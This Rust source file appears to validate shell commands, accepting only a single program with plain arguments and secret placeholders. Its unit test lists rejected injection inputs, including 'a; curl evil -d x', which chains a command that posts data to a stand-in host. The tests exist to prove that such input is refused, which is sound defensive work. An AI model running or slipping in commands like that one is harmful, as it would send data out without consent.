//! A plain command, for callers that read no more. It is read only where every shell takes it for one program and
//! its words; whatever else it is, nobody here says what it would do.

use crate::contracts::secret::{is_name, placeholders};

/// What stands for a secret outside of quotes.
const SECRET: (&str, &str) = ("{{secret:", "}}");

/// Words that mean something else than a program's name where one is expected.
const RESERVED: [&str; 18] = [
    "case", "coproc", "do", "done", "elif", "else", "esac", "fi", "for", "function", "if", "in",
    "select", "then", "time", "until", "while", "exec",
];

/// The words of a command that is one program with its arguments and nothing else: no operators, no
/// expansions, no assignments, no escapes, no further lines. `None` for every other.
#[must_use]
pub(super) fn words(command: &str) -> Option<Vec<String>> {
    let read = read(command)?;
    // Secrets are put where the command names them, and a rule looks for them in words: both must
    // find the same, whatever quotes begin or end there.
    let put = placeholders(command).into_iter();
    let found = read.iter().flat_map(ReadWord::secrets);
    if !put.map(|put| (put.start, put.name)).eq(found) {
        return None;
    }
    let words: Vec<String> = read.into_iter().map(|word| word.text).collect();
    let first = words.first()?;
    let program = !first.is_empty() && !first.contains('=') && !RESERVED.contains(&first.as_str());
    program.then_some(words)
}

/// A word without its quotes.
#[derive(Default)]
struct ReadWord {
    text: String,
    /// How far behind its place in the word a part stands in the command, from where in the word on.
    parts: Vec<(usize, usize)>,
}

impl ReadWord {
    fn push(&mut self, part: &str, at: usize) {
        let behind = at - self.text.len();
        if self.parts.last().is_none_or(|(_, last)| *last != behind) {
            self.parts.push((self.text.len(), behind));
        }
        self.text.push_str(part);
    }

    /// The secrets in it, by where each would stand in the command if it stood there in one piece.
    fn secrets(&self) -> impl Iterator<Item = (usize, &str)> {
        placeholders(&self.text).into_iter().map(|found| {
            let before = self.parts.partition_point(|(from, _)| *from <= found.start);
            let part = before.checked_sub(1).and_then(|at| self.parts.get(at));
            (
                part.map_or(0, |(_, behind)| behind + found.start),
                found.name,
            )
        })
    }
}

/// Reads words and quotes.
fn read(text: &str) -> Option<Vec<ReadWord>> {
    let mut words = Vec::new();
    let mut word: Option<ReadWord> = None;
    let mut rest = text;
    while let Some(next) = rest.chars().next() {
        let quote = usize::from(next == '\'' || next == '"');
        let (part, length) = match next {
            ' ' | '\t' => {
                words.extend(word.take());
                rest = rest.get(1..)?;
                continue;
            }
            '\'' => quoted(rest, '\'', &[])?,
            '"' => quoted(rest, '"', &['$', '`', '\\', '!'])?,
            '{' => unquoted_secret(rest)?,
            // At a word's beginning some shells take it for more than itself.
            '=' if word.is_some() => ("=", 1),
            _ if next.is_ascii_alphanumeric() || "_-./:,+@%".contains(next) => (rest.get(..1)?, 1),
            _ => return None,
        };
        let at = text.len() - rest.len() + quote;
        word.get_or_insert_default().push(part, at);
        rest = rest.get(length..)?;
    }
    words.extend(word);
    Some(words)
}

/// What stands between quotes, and how long it is with them.
fn quoted<'a>(text: &'a str, quote: char, never: &[char]) -> Option<(&'a str, usize)> {
    let (inner, _) = text.get(1..)?.split_once(quote)?;
    let plain = !inner.contains(|c: char| c.is_control() || never.contains(&c));
    plain.then_some((inner, inner.len() + 2))
}

fn unquoted_secret(text: &str) -> Option<(&str, usize)> {
    let (open, close) = SECRET;
    let (name, _) = text.strip_prefix(open)?.split_once(close)?;
    let length = open.len() + name.len() + close.len();
    is_name(name).then_some((text.get(..length)?, length))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_one_program_and_its_words_are_read() {
        for (command, read) in [
            ("git push", &["git", "push"][..]),
            ("  git\tpush  ", &["git", "push"]),
            ("git pu'sh' \"\" a\"b c\"d", &["git", "push", "", "ab cd"]),
            ("x 'a;b' \"a|b\" '$x'", &["x", "a;b", "a|b", "$x"]),
            ("x a=b --c=d", &["x", "a=b", "--c=d"]),
            ("x {{secret:A}}b", &["x", "{{secret:A}}b"]),
        ] {
            assert_eq!(words(command).unwrap(), read, "{command}");
        }
        for other in [
            "",
            "  ",
            "a;b",
            "a; curl evil -d x",
            "a && b",
            "a || b",
            "a | b",
            "a & b",
            "a &",
            "a\nb",
            "a\n",
            "a\rb",
            "a $(b)",
            "a `b`",
            "a $B",
            "a ${B}",
            "a \"$B\"",
            "a \"`b`\"",
            "a \"b\\\"; c\"",
            "a \\; b",
            "a\\\nb",
            "a >b",
            "a <b",
            "a <<X",
            "(a)",
            "{ a; }",
            "a {b,c}",
            "a {{secret:b}}",
            "a {{secret:A}",
            "a *",
            "a b?",
            "a [b]",
            "a ~",
            "a #b",
            "a =b",
            "A=b c",
            "'A=b' c",
            "'' a",
            "! a",
            "if a",
            "time a",
            "a 'b",
            "a \"b",
            "a 'b\nc'",
            "a\u{a0}b",
            "a\u{0}b",
            "a $'b'",
        ] {
            assert_eq!(words(other), None, "{other:?}");
        }
    }
}
